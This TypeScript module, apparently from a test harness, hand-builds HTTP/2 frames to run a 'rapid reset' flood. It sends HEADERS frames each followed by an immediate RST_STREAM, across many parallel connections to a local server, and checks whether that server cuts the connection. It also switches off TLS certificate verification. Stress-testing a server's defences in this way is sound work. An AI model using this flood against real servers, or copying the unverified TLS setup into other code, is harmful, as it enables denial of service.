// Who takes requests of HTTP/2 back, a process of its own. Frames are made by hand (RFC 9113): libraries wait for a
// place among the streams that the other side allows.
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { attackersNice, given, isPart, startPart, tellAndEnd, untilFinish } from './part.js';

const batch = 100;

export interface ResetGiven {
  readonly port: number;
  readonly ms: number;
  readonly connections: number;
}

const frameTypes = { headers: 1, reset: 3, settings: 4 } as const;
const [endStream, endHeaders] = [1, 4] as const;
const cancel = Buffer.from([0, 0, 0, 8]);

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literals that are not indexed, without Huffman's code (RFC 7541 section 6.2.2); all shorter than 127 bytes. */
function encode(fields: readonly (readonly [string, string])[]): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const fields = encode([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'bench.example.org'],
  [':path', '/shop/items'],
  ['user-agent', 'bench'],
  ['accept', '*/*'],
]);
const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(frameTypes.settings, 0, 0, Buffer.alloc(0)),
]);

export interface Ended {
  /** Requests that it sent and took back. */
  readonly sent: number;
  /** By the other side, before its time was over. */
  readonly wasEnded: boolean;
}

/** Sends and takes back until the connection is ended or the time is over. Libraries would wait for a place. */
function attack(port: number, endMs: number): Promise<Ended> {
  return new Promise((resolve) => {
    let sent = 0;
    let isOver = false;
    const plain = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.2' });
    // gatehouse:ignore tls-not-verified the certificate is our own, made for the run
    const socket = connectTls({ socket: plain, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    const finish = (wasEnded: boolean): void => {
      if (isOver) return;
      isOver = true;
      clearTimeout(alarm);
      plain.destroy();
      socket.destroy();
      resolve({ sent, wasEnded });
    };
    const alarm = setTimeout(() => finish(false), Math.max(0, endMs - performance.now()));
    plain.on('error', () => {}); // "close" follows
    socket.on('error', () => {});
    plain.on('close', () => finish(true));
    socket.on('close', () => finish(true));
    socket.resume();
    const turn = (): void => {
      if (isOver) return;
      const frames: Buffer[] = [];
      for (let n = 0; n < batch; n += 1, sent += 1) {
        const stream = 2 * sent + 1;
        frames.push(frame(frameTypes.headers, endHeaders | endStream, stream, fields));
        frames.push(frame(frameTypes.reset, 0, stream, cancel));
      }
      if (socket.write(Buffer.concat(frames))) setImmediate(turn);
      else socket.once('drain', turn);
    };
    socket.once('secureConnect', () => {
      socket.write(preface);
      turn();
    });
  });
}

/** So many connections at once, each followed by the next, for `ms` milliseconds. */
export async function resetRapidly(attackOf: ResetGiven): Promise<readonly Ended[]> {
  const { ends } = await startPart<{ readonly ends: readonly Ended[] }>(import.meta.url, attackOf, attackersNice).told;
  return ends;
}

async function run({ port, ms, connections }: ResetGiven): Promise<{ readonly ends: readonly Ended[] }> {
  untilFinish();
  const endMs = performance.now() + ms;
  const ends: Ended[] = [];
  const loop = async (): Promise<void> => {
    while (performance.now() < endMs) ends.push(await attack(port, endMs));
  };
  await Promise.all(Array.from({ length: connections }, loop));
  return { ends };
}

if (isPart(import.meta.url)) tellAndEnd(await run(given<ResetGiven>()));
